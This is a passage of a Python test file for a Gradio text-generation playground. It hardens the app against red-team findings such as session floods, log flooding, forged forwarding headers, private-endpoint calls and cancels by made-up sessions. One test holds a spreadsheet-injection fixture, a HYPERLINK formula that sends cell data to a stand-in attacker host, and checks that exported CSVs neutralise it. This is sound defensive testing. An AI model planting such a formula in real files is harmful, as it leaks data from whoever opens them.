def test_a_call_naming_no_function_or_session_is_a_404(app_url):
    """Gradio answered an fn_index naming no function (or one that runs in the page alone) with a bare
    500 and printed a traceback, and a page's stream of a session it does not hold began, then ended
    with an error logged with a traceback: tiny requests logged 1-1.7 MiB a second (a red-team pass)."""
    import app
    js_only = next(index for index, fn in app.demo.fns.items() if fn.fn is None)
    for path in ("/gradio_api/run/predict", "/gradio_api/queue/join"):
        for index, said in ((99999, "no function 99999 here"), (js_only, f"function {js_only} runs in the page alone")):
            status, text = post(app_url, path, json.dumps({"data": [], "fn_index": index, "session_hash": "x"}).encode())
            assert status == 404 and said in text, (path, index, status, text[:300])
        # (a short body's fn_index "99999", "94" or 7.0, read by Gradio as a number, passed every check: a 500 and a
        # traceback, or Gradio's own error listing its components' reprs; an API review)
        for index in ("99999", str(js_only), float(js_only), str(notice_function()), [1]):
            status, text = post(app_url, path, json.dumps({"data": [], "fn_index": index, "session_hash": "x"}).encode())
            assert status == 400 and "fn_index must be a whole number" in text, (path, index, status, text[:300])
    fn = {d.get("api_name"): d["id"] for d in Client(app_url, verbose=False).config["dependencies"]}
    assert _join(app_url, fn["share_link"], None, "192.0.2.61")[0] == 200  # session s-192.0.2.61 held (not read)
    for query in ("session_hash=never-joined", "session_hash=s-192.0.2.61&session_hash=never-joined"):  # (Starlette
        try:  # reads the last: the first passed a session held, and Gradio streamed another)
            urllib.request.urlopen(f"{app_url}gradio_api/queue/data?{query}", timeout=30)
            raise AssertionError(f"a session never joined was streamed: {query}")
        except urllib.error.HTTPError as refused:
            assert refused.code == 404 and "no session 'never-joined' is held here" in refused.read().decode()


def test_a_call_by_name_naming_no_input_is_told_which_there_are(app_url):
    """/call/v2/generate with {"top_k": 5} (an input /run has, /generate not) was answered "Internal
    Server Error" (500), and Gradio logged its TypeError with the name whole and a traceback: 30 calls
    naming 7 MB names added 200 MiB of log in 3 s (a red-team pass). So was a route naming no endpoint."""
    inputs = "prompt, preset, k, temperature, max_new_tokens, seed, schema, regex, compare, backend, grammar"
    for body, said in (({"prompt": "x", "top_k": 5}, f"'top_k' is not an input of /generate; its inputs: {inputs}"),
                       ({"data": []}, "'data' is not an input of /generate"),
                       ({"k" * 3_000_000: 1}, f"'{'k' * 40}' is not an input of /generate")):
        status, text = post(app_url, "/gradio_api/call/v2/generate", json.dumps(body).encode())
        assert status == 400 and said in text and len(text) < 1000, (status, text[:300])
    for path in ("/gradio_api/call/v2/nope", "/gradio_api/call/nope", "/gradio_api/call/v2/from_last_run"):  # (private)
        status, text = post(app_url, path, json.dumps({"data": []} if "v2" not in path else {}).encode())
        assert status == 404 and "here; /gradio_api/info lists them" in text, (path, status, text[:300])  # were 500s
    status, text = post(app_url, "/gradio_api/call/v2/generate", json.dumps({"prompt": "x", "max_new_tokens": 8}).encode())
    assert status == 200 and "event_id" in text, (status, text)
    stream = urllib.request.urlopen(f"{app_url}gradio_api/call/v2/generate/{json.loads(text)['event_id']}", timeout=300)
    assert "event: complete" in stream.read().decode()  # read whole: not left in the queue's share of this address


def test_quick_events_joining_at_once_are_not_counted_as_runs(monkeypatch):
    """A page's first load joins three quick events at once (the chart, the export, the thinking
    budget); all counted as runs on the device, the third was refused ("currently busy") while a
    freshly started server was slow to answer the first two (5 of 7 first loads on a 2-core EPYC)."""
    import app
    from playground.limits import DEVICE_RUNS_PER_CLIENT, QUEUED_PER_CLIENT
    from playground.ui import serving
    fns = {fn.api_name: index for index, fn in app.demo.fns.items()}
    join = lambda fn_index, pad=b"": json.dumps({"data": [], "fn_index": fn_index, "session_hash": "s"}).encode()[:-1] + pad + b"}"
    long = b" " * calls.VALUE_CHARS  # a page with a long prompt sends it with each of them: read in the worker thread
    runs = lambda body, path="/gradio_api/queue/join": (lambda fn: fn is None or fn.concurrency_id == addresses.DEVICE)(
        anyio.run(calls.refusal, body, app.demo, path)[1])
    assert not runs(join(fns["export"])) and not runs(join(fns["export"], long))
    assert not runs(b"{}", "/gradio_api/call/share_link") and not runs(b"{}", "/gradio_api/call/v2/export")
    for run in (join(fns["generate"]), join(fns["generate"], long), join(str(fns["generate"])), join(10**6), b"{}",
                b"[" * 5000, b"\xff"):  # a run, or not known for one
        assert runs(run), run[:60]
    for forged in (join(fns["export"]), join(fns["export"], long)):  # /call/ runs what its route names, not its fn_index
        assert runs(forged, "/gradio_api/call/generate") and runs(forged, "/gradio_api/call/v2/generate")
    assert not runs(join(fns["export"]), "/gradio_api/run/generate")  # /run/ runs its fn_index, as Gradio reads it

    queue, caller, lane = app.demo._queue, "203.0.113.99", "constraint-check"
    monkeypatch.setitem(addresses._pending, caller, DEVICE_RUNS_PER_CLIENT)  # that many quick ones joining now
    assert addresses.share_taken(queue, caller, lane) == addresses.share_taken(queue, caller) == ""
    monkeypatch.setitem(addresses._pending_lanes, (caller, addresses.DEVICE), DEVICE_RUNS_PER_CLIENT)  # runs, joining now
    assert addresses.share_taken(queue, caller, lane) == ""
    assert addresses.share_taken(queue, caller) == f"{DEVICE_RUNS_PER_CLIENT} runs on the device"
    monkeypatch.setitem(addresses._pending, caller, QUEUED_PER_CLIENT)
    assert addresses.share_taken(queue, caller, lane) == f"{QUEUED_PER_CLIENT} events"


def test_one_address_holds_a_few_events_of_one_lane(monkeypatch):
    """A lane serves one event at a time, and a constraint's check as typed or an export may take its
    3 s ceiling: 8 checks from one address (its share of every kind) held another visitor's check of
    `[0-9]{4}` 24.6 s (a red-team pass). Past QUICK_PER_LANE in one lane its next join there is
    refused; other lanes, and runs, are not."""
    import app
    from playground.limits import QUEUED_PER_CLIENT, QUICK_PER_LANE
    from playground.ui import serving
    queue, caller = app.demo._queue, "203.0.113.98"
    assert QUICK_PER_LANE < QUEUED_PER_CLIENT
    monkeypatch.setitem(addresses._pending, caller, QUICK_PER_LANE)
    monkeypatch.setitem(addresses._pending_lanes, (caller, "constraint-check"), QUICK_PER_LANE)
    assert addresses.share_taken(queue, caller, "constraint-check") == f"{QUICK_PER_LANE} events of this kind"
    assert addresses.share_taken(queue, caller, "export") == addresses.share_taken(queue, caller) == ""
    checks = [fn for fn in app.demo.fns.values() if fn.concurrency_id == "constraint-check"]
    assert len(checks) == 1 and checks[0].trigger_mode == "always_last"  # a page holds at most 2 there: one
    # running, the newest waiting (three events, one for each of kind, constraint and backend: a preset changed all three)
    held = collections.Counter()  # lane -> the most a page holds there: an event "once" 1, "always_last" 2 (one
    for fn in app.demo.fns.values():  # running, the newest waiting); a lane is a concurrency_id, or a function's own
        if fn.queue and fn.fn is not None and fn.concurrency_id != addresses.DEVICE:
            held[fn.concurrency_id, fn.name] += {"once": 1, "always_last": 2}.get(fn.trigger_mode, QUICK_PER_LANE + 1)
    lanes = collections.Counter()
    for (lane, _), most in held.items():
        lanes[lane] += most
    assert max(lanes.values()) <= QUICK_PER_LANE, [key for key, most in held.items() if lanes[key[0]] > QUICK_PER_LANE]
    # (the calculator's six triggers, each an event of its own, made four at once from a link: refused)


def test_the_address_is_the_peers_unless_the_peer_is_a_proxy_of_this_host():
    from starlette.datastructures import Headers

    from playground.ui.addresses import client_address
    forwarded = Headers({"X-Forwarded-For": "203.0.113.7, 10.0.0.1"})
    assert client_address(forwarded, ("10.16.3.80", 5000)) == "203.0.113.7"  # a Space's proxy: the caller it names
    assert client_address(forwarded, ("127.0.0.1", 5000)) == "203.0.113.7"  # a local nginx
    assert client_address(forwarded, ("93.184.216.34", 5000)) == "93.184.216.34"  # a caller naming someone else
    assert client_address(Headers({}), ("10.16.3.80", 5000)) == "10.16.3.80"
    assert client_address(Headers({}), None) == ""
    # IPv6: one subscriber's /64 is one address (each of its 2^64 had a share of its own); IPv4 mapped: itself
    sixes = [client_address(Headers({}), (peer, 5000)) for peer in ("2001:db8:1:2::1", "2001:db8:1:2:abcd::9", "2001:db8:1:3::1")]
    assert sixes == ["2001:db8:1:2::/64", "2001:db8:1:2::/64", "2001:db8:1:3::/64"]
    assert client_address(Headers({"X-Forwarded-For": "::ffff:198.51.100.7"}), ("127.0.0.1", 5000)) == "198.51.100.7"


def test_a_flood_of_new_sessions_pushes_out_its_own_not_a_visitors(app_url, monkeypatch):
    """Any call naming a new session_hash makes a session (a component's server route answering 404 too, before
    that route was refused); past SESSIONS_KEPT Gradio forgot the oldest: 130 such calls from one address, in 1.7 s,
    pushed out every visitor reading their results (a red-team pass). Now the address holding the most loses first."""
    import app
    import http.client
    from playground.ui.sessions import FairStateHolder
    holder = app.demo.state_holder
    assert isinstance(holder, FairStateHolder)
    visitor = Client(app_url, verbose=False)
    assert visitor.predict(k=6, api_name="/share_link").startswith("http")  # (its session made)
    monkeypatch.setattr(holder, "capacity", len(holder.session_data) + 8)
    url = urllib.parse.urlsplit(app_url)
    flood = [f"flood-{uuid.uuid4().hex}" for _ in range(holder.capacity + 32)]  # (more than every session held:
    # the oldest of all forgotten would have taken the visitor's, whatever the earlier tests left)
    notice = notice_function()  # a quick call of the page's
    for session in flood:
        conn = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
        body = json.dumps({"session_hash": session, "fn_index": notice, "data": ["x"]})
        conn.request("POST", "/gradio_api/run/predict", body=body,
                     headers={"Content-Type": "application/json", "X-Forwarded-For": "203.0.113.66"})
        conn.getresponse().read()
        conn.close()
    assert visitor.session_hash in holder and len(holder.session_data) <= holder.capacity
    assert 0 < sum(session in holder for session in flood) < holder.capacity  # the flood's newest; its oldest forgotten


def _unread_call(app_url, max_new_tokens: int, compare: bool) -> str:
    """A /call/generate whose stream nobody opens, waited for until its run has ended -> its event id."""
    import app
    data = ["def f(", "demo", 4, 0.0, max_new_tokens, 0, "", "", compare, "", "", "", -1]
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps({"data": data}).encode())
    assert status == 200, text
    event_id, deadline = json.loads(text)["event_id"], time.monotonic() + 300
    while event_id in app.demo._queue.event_ids_to_events:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    return event_id


def _late_read(app_url, event_id: str) -> str:
    """The stream of a /call/generate event, or its refusal ("404: why")."""
    try:
        with urllib.request.urlopen(f"{app_url}gradio_api/call/generate/{event_id}", timeout=60) as r:
            return r.read().decode()
    except urllib.error.HTTPError as refused:
        return f"{refused.code}: {json.loads(refused.read())['detail']}"


def test_a_stream_opened_again_after_its_reader_left_says_why_at_once(app_url):
    """A reader that left mid-run and came back got a stream begun, then "404: Not Found" inside it, and the
    server logged an 81-line traceback each time (an API review): Gradio let go of the event's messages as
    the reader left, not of its id. Now a plain 404 that says why, and the id goes."""
    import http.client

    import app
    queue = app.demo._queue
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps(
        {"data": ["def f(", "demo", 4, 0.0, 2000, 0, "", "", False, "", "", "", -1]}).encode())
    event_id = json.loads(text)["event_id"]
    url = urllib.parse.urlsplit(app_url)
    reader = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
    reader.request("GET", f"/gradio_api/call/generate/{event_id}")
    answer = reader.getresponse()
    assert answer.status == 200 and answer.read(17) == b"event: generating"  # the run writes: read, then gone
    reader.close()
    deadline = time.monotonic() + 60
    while event_id in queue.event_ids_to_events or event_id in queue.pending_messages_per_session:
        assert time.monotonic() < deadline  # (the run stops as its reader leaves; Gradio notices within 10 s)
        time.sleep(0.2)
    assert _late_read(app_url, event_id).startswith(f"404: nothing of event {event_id} is held here: its stream was closed")
    assert event_id not in queue.pending_event_ids_session  # its id let go of too


def test_a_run_nobody_reads_keeps_only_its_result_and_few_such_runs_are_kept(app_url, monkeypatch):
    """Gradio queued every snapshot of a /call/generate run (each the whole value) until someone
    read the stream, for up to 2,000 sessions: an unread 1,900-token compared run of the demo pair
    held 21.6 MB. Now an unread run keeps its result (a late reader, as the README's curl, gets it
    whole), and past UNREAD_KEPT ended unread sessions the oldest is forgotten. Asked for an event
    it no longer holds, the stream says so at once (Gradio broke off a forgotten one mid-answer and
    kept a stream read once more open forever, sending heartbeats)."""
    import app
    from playground.ui import leftovers
    event_id = _unread_call(app_url, 200, compare=True)
    held = list(app.demo._queue.pending_messages_per_session[event_id]._queue)
    assert [m.msg for m in held if m.msg in ("process_generating", "process_completed")] == ["process_completed"]
    stream = _late_read(app_url, event_id)
    assert stream.count("event: generating") == 0 and stream.count("event: complete") == 1, stream[:300]
    result = json.loads(stream.split("event: complete\ndata: ", 1)[1])[0]
    assert result["stats"]["generated_tokens"] > 100 and result["baseline"]["text"] == result["text"]
    monkeypatch.setattr(leftovers, "UNREAD_KEPT", 1)
    first, second = (_unread_call(app_url, 4, compare=False) for _ in range(2))
    assert first not in app.demo._queue.pending_messages_per_session
    assert _late_read(app_url, first).startswith("404: nothing of event")
    assert "event: complete" in _late_read(app_url, second)
    assert "only the newest 1 results nobody has read" in _late_read(app_url, second)  # read once: gone
    assert _late_read(app_url, "made-up").startswith("404: nothing of event made-up is held here")
    _unread_call(app_url, 4, compare=False)  # (an event's end lets go of what was read before it)
    assert second not in app.demo._queue.pending_event_ids_session  # its emptied set, kept by Gradio
    assert page_answers_quickly(app_url)



def test_unread_results_are_kept_within_a_size_too(app_url, monkeypatch):
    """UNREAD_KEPT bounded their number only: a token tree's rounds, each with every node, make a 2,048-token
    run's result about 11 MB, 64 of them 700 MB. Past UNREAD_BYTES together the oldest is forgotten too."""
    from playground.ui import leftovers
    monkeypatch.setattr(leftovers, "UNREAD_BYTES", 1)  # (the newest one always kept)
    first, second = (_unread_call(app_url, 4, compare=False) for _ in range(2))
    assert _late_read(app_url, first).startswith("404: nothing of event")
    assert "event: complete" in _late_read(app_url, second)

def test_one_session_of_many_unread_events_keeps_the_newest_results_only(app_url, monkeypatch):
    """One made-up session of 400 unread /export joins (a 250 KB schema in each answer) added 330 MB:
    the bound is on ended events unread, whatever their sessions."""
    import app
    from playground.ui import leftovers
    monkeypatch.setattr(leftovers, "UNREAD_KEPT", 3)
    fn = {d.get("api_name"): d["id"] for d in Client(app_url, verbose=False).config["dependencies"]}
    queue = app.demo._queue
    for _ in range(6):
        status, text = _join(app_url, fn["share_link"], None, "192.0.2.44")
        event_id, deadline = json.loads(text)["event_id"], time.monotonic() + 60
        while event_id in queue.event_ids_to_events:
            assert time.monotonic() < deadline
            time.sleep(0.05)
    held = queue.pending_messages_per_session["s-192.0.2.44"]._queue
    assert [m.msg for m in held].count("process_completed") == 3 and len({m.event_id for m in held}) == 3
    assert len(queue.pending_event_ids_session["s-192.0.2.44"]) == 3
    assert page_answers_quickly(app_url)


def test_api_calls_do_not_push_out_a_page_visitors_session(app_url, monkeypatch):
    """Each /call/ call is a session of its own, whose state Gradio kept among the newest
    SESSIONS_KEPT: 128 API calls pushed out every visitor's (the calculator's history, a run's race
    replay). A call's session now lets go of its state when its event ends."""
    import app
    holder = app.demo.state_holder
    visitor = Client(app_url, verbose=False)
    assert visitor.predict(k=6, api_name="/share_link").startswith("http")
    monkeypatch.setattr(holder, "capacity", len(holder.session_data) + 2)
    calls = [_unread_call(app_url, 4, compare=False) for _ in range(4)]
    assert visitor.session_hash in holder and not any(call in holder for call in calls)
    assert all("event: complete" in _late_read(app_url, call) for call in calls)  # their results still read


def test_a_slow_readers_events_are_forgotten_last_and_a_failed_run_keeps_its_last_snapshot(monkeypatch):
    """A page whose connection is slow is behind, not gone: the bound forgot its run's result (and the
    diffs it was reading) when 64 unread API results came after it. And a late reader of a run that
    failed got the error alone, its last snapshot dropped with the others."""
    import asyncio
    import collections
    from types import SimpleNamespace
    from gradio.server_messages import ProcessCompletedMessage, ProcessGeneratingMessage
    from playground.ui import leftovers
    monkeypatch.setattr(leftovers, "_ended_unread", collections.OrderedDict())
    monkeypatch.setattr(leftovers, "_streams_open", collections.Counter({"page": 1}))
    queue = SimpleNamespace(pending_messages_per_session=collections.defaultdict(asyncio.Queue),
                            pending_event_ids_session=collections.defaultdict(set), event_ids_to_events={},
                            blocks=SimpleNamespace(state_holder=None))

    def send(session: str, event_id: str, message, simple: bool = True):
        event = SimpleNamespace(alive=True, session_hash=session, _id=event_id, data=SimpleNamespace(simple_format=simple))
        queue.pending_event_ids_session[session].add(event_id)
        leftovers.send_message(queue, event, message)

    def held(session: str) -> list:
        return [(m.event_id, m.msg.value) for m in queue.pending_messages_per_session[session]._queue]
    for n in range(3):
        send("script", "b", ProcessGeneratingMessage(output={"data": [n]}, success=True))  # whole values: the newest
    send("script", "b", ProcessCompletedMessage(output={"error": "x"}, success=False))
    assert held("script") == [("b", "process_generating"), ("b", "process_completed")]  # an error keeps it
    for n in range(3):
        send("page", "run", ProcessGeneratingMessage(output={"data": [n]}, success=True), simple=False)  # diffs: kept
    assert len(held("page")) == 3
    send("page", "run", ProcessCompletedMessage(output={"data": [2]}, success=True), simple=False)  # whole: diffs go
    assert held("page") == [("run", "process_completed")]
    monkeypatch.setattr(leftovers, "UNREAD_KEPT", 1)
    send("script", "a", ProcessCompletedMessage(output={}, success=True))
    assert held("script") == [] and held("page") == [("run", "process_completed")]  # the script's forgotten first
    leftovers._streams_open["script"] = 1
    send("script", "c", ProcessCompletedMessage(output={}, success=True))
    assert held("page") == [] and held("script") == [("c", "process_completed")]  # all read by a stream: the oldest


def test_an_unread_pages_run_leaves_its_result_and_a_cancel_counts_as_an_end(app_url, monkeypatch):
    """The page's own format (diffs) kept every snapshot of a run nobody read (1.15 MB for a
    1,000-token compared run); Gradio's /cancel queues its result itself, past the bound. The guard
    counts a session's stream while it is open."""
    import http.client
    import app
    from playground.ui import leftovers
    fn = {d.get("api_name"): d["id"] for d in Client(app_url, verbose=False).config["dependencies"]}
    queue, session = app.demo._queue, "s-192.0.2.51"
    status, text = _join(app_url, fn["generate"], ["def f(", "demo", 4, 0.0, 64, 0, "", "", True, "", "", "", -1], "192.0.2.51")
    event_id, deadline = json.loads(text)["event_id"], time.monotonic() + 120
    while event_id in queue.event_ids_to_events:
        assert time.monotonic() < deadline
        time.sleep(0.05)
    kinds = [m.msg.value for m in queue.pending_messages_per_session[session]._queue if m.event_id == event_id]
    assert "process_completed" in kinds and "process_generating" not in kinds, kinds
    url = urllib.parse.urlsplit(app_url)
    _join(app_url, fn["generate"], ["def g(", "demo", 4, 0.0, 400, 0, "", "", True, "", "", "", -1], "192.0.2.51")
    reader = http.client.HTTPConnection(url.hostname, url.port, timeout=30)  # (a run going: the stream stays)
    reader.request("GET", f"/gradio_api/queue/data?session_hash={session}")
    assert reader.getresponse().status == 200 and leftovers._streams_open[session] == 1
    reader.close()
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps(
        {"data": ["def f(", "demo", 4, 0.0, 200, 0, "", "", True, "", "", "", -1]}).encode())
    long_run = json.loads(text)["event_id"]
    monkeypatch.setattr(leftovers, "UNREAD_KEPT", 0)
    status, text = post(app_url, "/gradio_api/cancel", json.dumps(
        {"session_hash": long_run, "event_id": long_run, "fn_index": fn["generate"]}).encode())
    assert status == 200, text
    assert long_run not in queue.pending_event_ids_session and (long_run, long_run) not in leftovers._ended_unread
    assert _late_read(app_url, long_run).startswith("404: nothing of event")
    deadline = time.monotonic() + 60
    while leftovers._streams_open[session]:  # the reader gone: Gradio's stream notices within its 10 s wait
        assert time.monotonic() < deadline
        time.sleep(0.2)


def test_a_cancelled_runs_work_counts_in_its_addresss_share_until_it_ends_and_queued_work_never_starts(app_url, monkeypatch):
    """Gradio's /cancel frees an event's place in the queue at once, while its work goes on on the
    engine thread (a constraint's compile) or waits its turn there: joining and cancelling runs one
    after another (a red-team pass) queued 24 schema checks of 4.5 s on the engine thread, past the
    address's share, and another visitor's 8-token run waited 160 s behind them."""
    import threading

    from playground.limits import DEVICE_RUNS_PER_CLIENT
    from playground.ui import live, pacing
    fn = {d.get("api_name"): d["id"] for d in Client(app_url, verbose=False).config["dependencies"]}
    release, prepared, real_prepare = threading.Event(), [], live.prepare

    def slow_prepare(*args, **kwargs):  # a constraint's compile of a few seconds
        prepared.append(args[0].prompt)
        release.wait(60)
        return real_prepare(*args, **kwargs)
    monkeypatch.setattr(live, "prepare", slow_prepare)
    address, joined = "192.0.2.77", []
    args = lambda i: [f"def f{i}(", "demo", 4, 0.0, 8, 0, "", "", False, "", "", "", -1]
    for i in range(DEVICE_RUNS_PER_CLIENT):
        status, text = _join(app_url, fn["generate"], args(i), address)
        assert status == 200, text
        event_id, deadline = json.loads(text)["event_id"], time.monotonic() + 30
        while event_id not in dict(pacing.handed_requests()) or not prepared:  # its work handed to the engine
            assert time.monotonic() < deadline  # thread, and the first one started there (in its compile)
            time.sleep(0.02)
        status, _ = post(app_url, "/gradio_api/cancel", json.dumps(
            {"session_hash": f"s-{address}", "event_id": event_id, "fn_index": fn["generate"]}).encode())
        assert status == 200
        joined.append(event_id)
    status, text = _join(app_url, fn["generate"], args(9), address)  # was 200: the share counted Gradio's queue only
    assert status == 429 and f"already has {DEVICE_RUNS_PER_CLIENT} runs on the device" in text, (status, text)
    release.set()
    deadline = time.monotonic() + 60
    while any(event_id in dict(pacing.handed_requests()) for event_id in joined):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert prepared == ["def f0("]  # the cancelled ones that waited for the engine thread never started
    status, text = _join(app_url, fn["generate"], args(10), address)  # their work ended: the share is free again
    assert status == 200, text


def test_gradio_is_changed_only_by_building_the_page_and_in_one_place():
    """Four modules changed Gradio as a side effect of being imported (the boxes' refusals as inputs was). Now importing
    them changes nothing; building the page installs every patch (playground.ui.gradio_patches), once."""
    import subprocess
    import sys
    check = """
import logging, gradio as gr, gradio.queueing, gradio.routes
before = (gradio.queueing.Queue.send_message, gradio.routes.StateHolder, gradio.routes.traceback, gr.Slider.preprocess,
          gr.Dropdown.preprocess, gr.Textbox.preprocess)
from playground.ui import box_refusals, inputs, leftovers, serving, sessions
assert (gradio.queueing.Queue.send_message, gradio.routes.StateHolder, gradio.routes.traceback, gr.Slider.preprocess,
        gr.Dropdown.preprocess, gr.Textbox.preprocess) == before
from playground.ui import gradio_patches, page
gradio_patches.install()
assert gr.Slider.preprocess.named and gr.Dropdown.preprocess.named and gr.Textbox.preprocess.named
slider = gr.Slider.preprocess
gradio_patches.install()
assert gr.Slider.preprocess is slider  # (once)
assert gradio.queueing.Queue.send_message is leftovers.send_message and gradio.routes.StateHolder is sessions.FairStateHolder
assert gradio.routes.traceback is gradio.queueing.traceback is serving.QUIET_TRACEBACKS
assert logging.getLogger("uvicorn.error").filters.count(serving.QUIET_TRACEBACKS) == 1
"""
    done = subprocess.run([sys.executable, "-c", check], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(pathlib.Path(__file__).parent.parent)})
    assert done.returncode == 0, done.stderr[-2000:]


def test_gradios_tracebacks_are_printed_at_most_a_few_a_minute(monkeypatch, capsys):
    """Gradio prints a traceback for every call its function fails: a malformed call of a quick
    event (`[null]` to a gr.Examples loader by /run/predict) logged 712 bytes a request, about
    1 MiB a second from four threads (a red-team pass)."""
    import logging

    import gradio.queueing
    import gradio.routes

    from playground.ui import page, serving  # (building the page installs the patches)
    assert page.demo and gradio.routes.traceback is gradio.queueing.traceback is serving.QUIET_TRACEBACKS
    assert serving.QUIET_TRACEBACKS in logging.getLogger("uvicorn.error").filters  # ("Exception in ASGI application")
    quiet, now = serving.QuietTracebacks(), [600.0]
    monkeypatch.setattr(serving, "monotonic", lambda: now[0])

    def fail_and_print(times: int) -> str:
        for _ in range(times):
            try:
                raise TypeError("cannot unpack non-iterable NoneType object")
            except TypeError:
                quiet.print_exc()
        return capsys.readouterr().err
    printed = fail_and_print(serving.QuietTracebacks.MOST + 30)
    assert printed.count("Traceback (most recent call last)") == serving.QuietTracebacks.MOST
    assert printed.count("the others are left out of the log until the next") == 1
    try:  # a failure of another kind, past the minute's MOST: shown (one caller's repeated malformed call hid it)
        raise ValueError("a real crash")
    except ValueError:
        quiet.print_exc()
    assert "ValueError: a real crash" in capsys.readouterr().err
    now[0] += 60
    printed = fail_and_print(1)
    assert "(30 tracebacks were left out of the log in that minute)" in printed and printed.count("Traceback") == 1
    record = lambda exc_info: logging.LogRecord("uvicorn.error", logging.ERROR, "", 0, "Exception in ASGI application",
                                                None, exc_info)
    assert all(quiet.filter(record(None)) for _ in range(100))  # a line without a traceback: always
    kept = [quiet.filter(record((TypeError, TypeError("x"), None))) for _ in range(serving.QuietTracebacks.MOST)]
    assert kept.count(True) == serving.QuietTracebacks.MOST - 1  # one of the minute's printed above


def test_the_guards_refusals_are_said_in_the_log_a_few_lines_a_minute(monkeypatch, caplog):
    """A review: a Space full and turning visitors away (503), one address past its share (429), a body past the
    limit (413) left no line in the log. The first of each status a minute is said with its reason, then how many
    more there were."""
    import logging

    from playground.ui import serving
    refusals, now = serving.RefusalLog(), [600.0]
    monkeypatch.setattr(serving, "monotonic", lambda: now[0])
    caplog.set_level(logging.INFO)
    for status, reason in [(429, "this address has 9 requests open\nFORGED"), (503, "the queue of runs is full")] * 3:
        refusals.note(status, reason)
    now[0] += 60
    refusals.note(413, "request body over this host's limit")
    assert [r.getMessage() for r in caplog.records] == [
        "refused (429): this address has 9 requests open\\nFORGED", "refused (503): the queue of runs is full",
        "refused 2 x 429, 2 x 503 more in that minute", "refused (413): request body over this host's limit"]


def test_a_links_text_reaches_an_experiments_csv_as_text_never_a_formula():
    """A link's system prompt (out of sight in Advanced) went into every row of a sweep's CSV as it was:
    `=HYPERLINK("https://evil.example/?d="&A2, ...)` was a live formula once a colleague opened the file in a
    spreadsheet (an audit). A cell starting = + - @, a tab or CR is written behind a ' ."""
    import csv
    from playground.ui import experiments_tab
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"full results")'
    sent = dataclasses.replace(Settings.from_preset(page_inputs.PRESETS["demo"]), system=formula)
    url = share_url("http://h/", sent, {"tab": "experiments"})
    settings, _ = from_query(dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query)), False)
    assert settings.system == formula
    settings.max_new_tokens, settings.compare = 4, False
    *_, csv_path, _ = list(experiments_tab.run_sweep(None, lambda *a, **k: None, "k", "2", "def f(x):",
                                                     *page_inputs.inputs_from_settings(settings)))[-1]
    rows = list(csv.DictReader(open(csv_path, encoding="utf-8")))
    assert rows and all(row["system"] == "'" + formula for row in rows)
    assert [row["k"] for row in rows] == ["2"]  # numbers stay numbers


def test_the_pages_own_functions_are_not_called_by_name(app_url):
    """An audit: Gradio's /call/<name> ran the page's private functions (the constraint check, the
    calculator, the run history) though the API's listing leaves them out."""
    import app
    private = [fn.api_name for fn in app.demo.fns.values() if fn.api_visibility == "private" and fn.api_name]
    assert "check_constraint" in private and "calculator" in private
    for name in private[:6] + ["check_constraint", "calculator"]:
        for route in (f"/gradio_api/call/{name}", f"/gradio_api/call/v2/{name}", f"/gradio_api/run/{name}"):
            status, text = post(app_url, route, json.dumps({"data": ["regex", "a+", "llguidance"]}).encode())
            assert status == 404 and f"no endpoint '{name}' here; /gradio_api/info lists them" in text, (route, status, text)
    values = len(next(fn for fn in app.demo.fns.values() if fn.api_name == "share_link").inputs)
    status, text = post(app_url, "/gradio_api/call/share_link", json.dumps({"data": [None] * values}).encode())
    assert status == 200 and "event_id" in text, text  # a public one still is
    status, text = post(app_url, "/gradio_api/call/share_link", json.dumps({"data": [None] * (values - 1)}).encode())
    assert status == 400 and f"/share_link takes {values} values, in the order /gradio_api/info lists them, not " \
        f"{values - 1} (or give them by name" in text, text  # (Gradio's words listed its components' reprs)
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps({"data": ["x"] * 14}).encode())
    assert status == 400 and "takes 13 values" in text, text  # (a 14th was dropped unsaid)


def test_a_join_by_fn_index_holds_its_functions_number_of_values(app_url):
    """An API review: a join of the queue (or /run/predict) by fn_index with too few values ended in
    Gradio's own error, listing its components' reprs, and logged a traceback; one too many was dropped
    unsaid. Each is refused before Gradio reads it, as /call/<name> is; the right number still joins."""
    import app
    fns = {fn.api_name: (index, fn) for index, fn in app.demo.fns.items() if fn.api_name}
    index, generate = fns["generate"]
    values = len(generate.inputs)
    for count in (1, values + 1):
        status, text = _join(app_url, index, ["x"] * count, "198.51.100.71")
        assert status == 400 and text.count(f"function {index} (/generate) takes {values} values, in the order "
                                            f"/gradio_api/info lists them, not {count}") == 1, (count, status, text)
    private = next(index for index, fn in app.demo.fns.items() if fn.fn and fn.inputs and fn.api_visibility == "private")
    status, text = _join(app_url, private, [], "198.51.100.72")
    wanted = len(app.demo.fns[private].inputs)
    assert status == 400 and f"function {private} takes {wanted} values, not 0" in text, (status, text)
    assert _join(app_url, fns["share_link"][0], None, "198.51.100.73")[0] == 200  # each value, as the page sends
    unqueued = next(index for index, fn in app.demo.fns.items() if fn.fn and fn.inputs and not fn.queue)
    status, text = _join(app_url, unqueued, [], "198.51.100.74", "run/predict")  # (a queued one's: Gradio's
    assert status == 400 and f"function {unqueued} takes " in text, (status, text)  # "join the queue")


def test_a_cancel_ends_only_an_event_of_the_session_it_names(app_url):
    """An audit: anyone who had a run's event id ended it with a made-up session hash (Gradio's /cancel
    and the guard's stop of its work read the event id alone)."""
    from playground.ui import pacing
    fn = {d.get("api_name"): d["id"] for d in Client(app_url, verbose=False).config["dependencies"]}
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps(
        {"data": ["def f(", "demo", 4, 0.0, 1500, 0, "", "", True, "", "", "", -1]}).encode())
    event_id, deadline = json.loads(text)["event_id"], time.monotonic() + 60
    reader = _reading(app_url, event_id)  # (read: it runs on)
    while event_id not in dict(pacing.handed_requests()):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    for session in ("made-up", "s-192.0.2.9", None):
        status, text = post(app_url, "/gradio_api/cancel", json.dumps(
            {"session_hash": session, "event_id": event_id, "fn_index": fn["generate"]}).encode())
        assert status == 404 and "no event of that session" in text, (status, text)
    time.sleep(1)
    assert event_id in dict(pacing.handed_requests())  # still running
    status, text = post(app_url, "/gradio_api/cancel", json.dumps(
